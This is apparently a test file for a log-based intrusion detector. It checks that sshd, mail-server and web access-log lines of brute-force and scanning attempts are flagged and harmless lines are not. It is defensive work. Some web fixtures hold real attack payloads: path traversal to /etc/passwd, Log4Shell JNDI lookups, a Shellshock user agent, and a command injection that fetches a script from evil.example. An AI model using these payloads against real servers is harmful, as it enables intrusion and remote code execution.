// The golden lines: what each daemon writes, in every version and prefix that we know, and what it must be read as.
import assert from 'node:assert/strict';
import { detected, engineOf, NOW } from './helpers.ts';

const IPV4 = '80.90.100.7';
const IPV6 = '2a00:1450:4001:82a::200e';

const SSHD_PREFIXES = [
  'Nov 21 10:00:00 web1 sshd[1000]: ',
  'Nov 21 10:00:00.123 web1 sshd[1000]: ',
  'Nov 21 2026 10:00:00 web1 sshd[1000]: ',
  '<38>Nov 21 10:00:00 web1 sshd[1000]: ',
  '2026-11-21T10:00:00.123456+00:00 web1 sshd[1000]: ',
  '2026-11-21T11:00:00+0100 web1 sshd-session[1000]: ',
  '2026-11-21T10:00:00Z web1 sshd-auth[1000]: ',
  '2026-11-21T10:00:00+00:00 relay/web1 sshd[1000]: ',
  'Sat 2026-11-21 10:00:00 UTC web1 sshd[1000]: ',
  '1795255200.123456 web1 sshd[1000]: ',
  '<38>1 2026-11-21T10:00:00.123456Z web1 sshd 1000 - - ',
  '<38>1 2026-11-21T10:00:00.123456Z web1 sshd 1000 ID47 [meta x="a\\]b"][b c="d"] ',
  'Nov 21 10:00:00 web1 /usr/sbin/sshd[1000]: ',
  'Nov 21 10:00:00 web1 sshd: ',
];

const SSHD_MESSAGES = [
  `Failed password for root from ${IPV4} port 51234 ssh2`,
  `Failed password for invalid user admin from ${IPV4} port 51234 ssh2`,
  `Failed password for illegal user admin from ::ffff:${IPV4} port 51234 ssh2`,
  `Failed none for invalid user  from ${IPV4} port 51234 ssh2`,
  `Failed publickey for root from ${IPV4} port 51234 ssh2: RSA SHA256:p2F3Yx0vxQ4z1oSDgC0l9m6cL5xw1J9J8j7bTgqg6l0`,
  `Failed keyboard-interactive/pam for invalid user test user from ${IPV4} port 51234 ssh2`,
  `Invalid user admin from ${IPV4} port 51234`,
  `Invalid user admin from ${IPV4}`,
  `Invalid user  from ${IPV4} port 51234`,
  `User root from ${IPV4} not allowed because not listed in AllowUsers`,
  `Connection closed by authenticating user root ${IPV4} port 51234 [preauth]`,
  `Connection closed by invalid user admin ${IPV4} port 51234 [preauth]`,
  `Connection reset by authenticating user root ${IPV4} port 51234 [preauth]`,
  `Disconnected from authenticating user root ${IPV4} port 51234 [preauth]`,
  `Disconnected from invalid user oracle ${IPV4} port 51234 [preauth]`,
  `Disconnecting authenticating user root ${IPV4} port 51234: Too many authentication failures [preauth]`,
  `error: maximum authentication attempts exceeded for root from ${IPV4} port 51234 ssh2 [preauth]`,
  `error: maximum authentication attempts exceeded for invalid user x from ${IPV4} port 51234 ssh2 [preauth]`,
  `error: PAM: Authentication failure for root from ${IPV4}`,
];

const PROBE_MESSAGES = [
  `Unable to negotiate with ${IPV4} port 51234: no matching key exchange method found. Their offer: diffie-hellman-group1-sha1 [preauth]`,
  `fatal: Unable to negotiate with ${IPV4} port 51234: no matching host key type found. Their offer: ssh-dss [preauth]`,
  `banner exchange: Connection from ${IPV4} port 51234: invalid format`,
  `error: kex_exchange_identification: Connection from ${IPV4} port 51234: could not read protocol version`,
  `ssh_dispatch_run_fatal: Connection from ${IPV4} port 51234: message authentication code incorrect [preauth]`,
  `Bad protocol version identification 'GET / HTTP/1.1' from ${IPV4} port 51234`,
  `Did not receive identification string from ${IPV4} port 51234`,
  `Did not receive identification string from ${IPV4}`,
  `fatal: Timeout before authentication for ${IPV4} port 51234`,
  `Timeout before authentication for connection from ${IPV4} to 10.0.0.1, pid = 4711`,
  `Connection closed by ${IPV4} port 51234 [preauth]`,
  `Connection reset by ${IPV4} port 51234 [preauth]`,
];

const MAIL_LINES: readonly (readonly [string, string])[] = [
  [
    'postfix-sasl',
    `Nov 21 10:00:00 mx postfix/smtpd[1000]: warning: unknown[${IPV4}]: SASL LOGIN authentication failed: UGFzc3dvcmQ6`,
  ],
  [
    'postfix-sasl',
    `Nov 21 10:00:00 mx postfix/submission/smtpd[1000]: warning: host.example.org[${IPV4}]: SASL PLAIN authentication failed: , sasl_username=info@example.org`,
  ],
  [
    'dovecot',
    `Nov 21 10:00:00 mx dovecot: imap-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<info>, method=PLAIN, rip=${IPV4}, lip=10.0.0.1, TLS, session=<Ab+/c3Zk9QBQWmQH>`,
  ],
  [
    'dovecot',
    `Nov 21 10:00:00 mx dovecot: pop3-login: Disconnected: Connection closed (auth failed, 3 attempts in 12 secs): user=<info@example.org>, method=PLAIN, rip=${IPV4}, lip=10.0.0.1, TLS: Connection closed, session=<Ab+/c3Zk9QBQWmQH>`,
  ],
  [
    'dovecot',
    `Nov 21 10:00:00 mx dovecot: imap-login: Aborted login (auth failed, 2 attempts in 4 secs): user=<>, rip=${IPV4}, lip=10.0.0.1`,
  ],
  [
    'dovecot',
    `Nov 21 10:00:00 mx dovecot: imap-login: Login aborted: Connection closed (auth failed, 1 attempts in 2 secs) (auth_failed): user=<a>, method=LOGIN, rip=${IPV4}, lip=10.0.0.1, TLS, session=<Ab+/c3Zk9QBQWmQH>`,
  ],
  [
    'exim',
    `2026-11-21 10:00:00 dovecot_login authenticator failed for (ylmf-pc) [${IPV4}]: 535 Incorrect authentication data (set_id=info)`,
  ],
  [
    'exim',
    `2026-11-21 10:00:00 +0000 [4711] plain authenticator failed for host.example.org ([10.0.0.9]) [${IPV4}]:51234 I=[10.0.0.1]:587: 535 Incorrect authentication data (set_id=info@example.org)`,
  ],
];

const AGENT = '"-" "Mozilla/5.0 (X11; Linux x86_64) Chrome/120.0.0.0 Safari/537.36"';
const TIME = '[21/Nov/2026:10:00:00 +0000]';

const WEB_LINES: readonly (readonly [string, string])[] = [
  ['web-scan', `${IPV4} - - ${TIME} "GET /.env HTTP/1.1" 404 153 ${AGENT}`],
  ['web-scan', `${IPV4} - - ${TIME} "GET /.env HTTP/1.1" 404 153`],
  // The absolute form, which every web server takes.
  ['web-scan', `${IPV4} - - ${TIME} "GET http://www.example.org/.env HTTP/1.1" 404 153 ${AGENT}`],
  [
    'web-scan',
    `www.example.org:443 ${IPV4} - - ${TIME} "GET /wp-login.php HTTP/1.1" 404 153 ${AGENT}`,
  ],
  ['web-scan', `${IPV4} - alice ${TIME} "GET //phpMyAdmin-4.8/index.php HTTP/1.1" 403 - ${AGENT}`],
  ['web-scan', `${IPV4} - - ${TIME} "GET /.git/config HTTP/2.0" 404 153 ${AGENT}`],
  ['web-scan', `${IPV4} - - ${TIME} "POST /blog/xmlrpc.php HTTP/1.1" 404 153 ${AGENT}`],
  ['web-scan', `${IPV4} - - ${TIME} "GET /backup.sql.gz HTTP/1.1" 404 153 ${AGENT}`],
  [
    'web-exploit',
    `${IPV4} - - ${TIME} "GET /cgi-bin/../../../../etc/passwd HTTP/1.1" 400 153 ${AGENT}`,
  ],
  [
    'web-exploit',
    `${IPV4} - - ${TIME} "GET /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1" 400 153 ${AGENT}`,
  ],
  [
    'web-exploit',
    `${IPV4} - - ${TIME} "GET /?f=%252e%252e%252f%252e%252e%252fx HTTP/1.1" 200 1 ${AGENT}`,
  ],
  [
    'web-exploit',
    `${IPV4} - - ${TIME} "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1" 200 1 ${AGENT}`,
  ],
  [
    'web-exploit',
    `${IPV4} - - ${TIME} "GET /?x=\${jndi:ldap://evil.example/a} HTTP/1.1" 200 1 ${AGENT}`,
  ],
  [
    'web-exploit',
    `${IPV4} - - ${TIME} "GET /?x=%24%7Bjndi:dns://evil.example/a%7D HTTP/1.1" 200 1 ${AGENT}`,
  ],
  [
    'web-exploit',
    `${IPV4} - - ${TIME} "GET / HTTP/1.1" 200 1 "-" "\${\${lower:j}ndi:ldap://evil.example}"`,
  ],
  ['web-exploit', `${IPV4} - - ${TIME} "GET / HTTP/1.1" 200 1 "-" "() { :;}; /bin/bash -c id"`],
  ['web-exploit', `${IPV4} - - ${TIME} "GET / HTTP/1.1" 200 1 "() { ignored; }; echo" "curl/8"`],
  [
    'web-exploit',
    `${IPV4} - - ${TIME} "GET /setup.cgi?next_file=x&cmd=;wget+http://evil.example/m.sh HTTP/1.0" 200 1 ${AGENT}`,
  ],
  ['web-login', `${IPV4} - - ${TIME} "POST /wp-login.php HTTP/1.1" 200 4211 ${AGENT}`],
];

const HARMLESS = [
  'Nov 21 10:00:00 web1 sshd[1000]: Server listening on 0.0.0.0 port 22.',
  `Nov 21 10:00:00 web1 sshd[1000]: Received disconnect from ${IPV4} port 51234:11: disconnected by user`,
  `Nov 21 10:00:00 web1 sshd[1000]: Disconnected from user alice ${IPV4} port 51234`,
  `Nov 21 10:00:00 web1 sshd[1000]: Connection closed by ${IPV4} port 51234`,
  `Nov 21 10:00:00 web1 myapp[1000]: Failed password for root from ${IPV4} port 51234 ssh2`,
  `Nov 21 10:00:00 web1 sshd[1000]: Failed password for root from 10.0.0.7 port 51234 ssh2`,
  `Nov 21 10:00:00 web1 sshd[1000]: Failed password for root from fe80::1%eth0 port 51234 ssh2`,
  `Nov 21 10:00:00 web1 sshd[1000]: Failed password for root from host.example.org port 51234 ssh2`,
  `Nov 21 10:00:00 web1 sshd[1000]: Failed password for root from ${IPV4}`,
  `Failed password for root from ${IPV4} port 51234 ssh2`,
  `${IPV4} - - ${TIME} "GET / HTTP/1.1" 200 153 ${AGENT}`,
  `${IPV4} - - ${TIME} "GET /missing-picture.png HTTP/1.1" 404 153 ${AGENT}`,
  `${IPV4} - - ${TIME} "GET /wp-login.php HTTP/1.1" 200 153 ${AGENT}`,
  `${IPV4} - - ${TIME} "POST /wp-login.php HTTP/1.1" 302 153 ${AGENT}`,
  `${IPV4} - - ${TIME} "GET /docs/../index.html HTTP/1.1" 200 153 ${AGENT}`,
  `${IPV4} - - ${TIME} "GET /articles/etc/passwords-in-history HTTP/1.1" 200 153 ${AGENT}`,
  `${IPV4} - - ${TIME} "GET /search?q=wget+manual HTTP/1.1" 200 153 ${AGENT}`,
  '',
];

describe('the lines that daemons write', () => {
  for (const prefix of SSHD_PREFIXES) {
    it(`sshd behind "${prefix}"`, () => {
      const found = detected(`${prefix}Failed password for root from ${IPV4} port 51234 ssh2`);
      assert.equal(found?.indicator, IPV4);
      assert.equal(Math.floor((found?.lastSeen ?? 0) / 1_000), NOW / 1_000);
    });
  }
  for (const message of SSHD_MESSAGES) {
    it(`sshd: ${message}`, () => {
      const found = detected(`Nov 21 10:00:00 web1 sshd[1000]: ${message}`);
      assert.deepEqual([found?.detector, found?.indicator, found?.attempts], ['sshd', IPV4, 5]);
    });
    it(`sshd over IPv6: ${message}`, () => {
      if (message.includes('::ffff:')) return;
      const found = detected(`Nov 21 10:00:00 web1 sshd[1000]: ${message.replace(IPV4, IPV6)}`);
      assert.equal(found?.indicator, IPV6);
    });
  }
  for (const message of PROBE_MESSAGES) {
    it(`weaker evidence: ${message}`, () => {
      const found = detected(`Nov 21 10:00:00 web1 sshd[1000]: ${message}`);
      assert.deepEqual([found?.detector, found?.indicator], ['sshd-probe', IPV4]);
      assert.ok((found?.confidence ?? 0) <= 500_000);
    });
  }
  for (const [name, line] of [...MAIL_LINES, ...WEB_LINES]) {
    it(`${name}: ${line}`, () => {
      const found = detected(line);
      assert.deepEqual([found?.detector, found?.indicator], [name, IPV4]);
      assert.equal(found?.lastSeen, NOW);
    });
  }
  for (const line of HARMLESS) {
    it(`nothing: ${line}`, () => assert.equal(detected(line), undefined));
  }
});

describe('successful log-ins', () => {
  for (const [message, method] of [
    [`Accepted publickey for alice from ${IPV4} port 51234 ssh2: ED25519 SHA256:abc`, 'publickey'],
    [`Accepted password for alice from ${IPV4} port 51234 ssh2`, 'password'],
    [
      `Accepted keyboard-interactive/pam for alice from ${IPV4} port 51234 ssh2`,
      'keyboard-interactive/pam',
    ],
  ]) {
    it(`${message}`, () => {
      assert.deepEqual(engineOf().line(`Nov 21 10:00:00 web1 sshd[1]: ${message}`, NOW), [
        { type: 'login', sensor: 'test', address: IPV4, method, at: NOW },
      ]);
    });
  }

  it('from private addresses are told too: the guard protects them', () => {
    const line = 'Nov 21 10:00:00 web1 sshd[1]: Accepted publickey for a from 10.0.0.7 port 1 ssh2';
    assert.equal(engineOf().line(line, NOW)[0]?.type, 'login');
  });
});
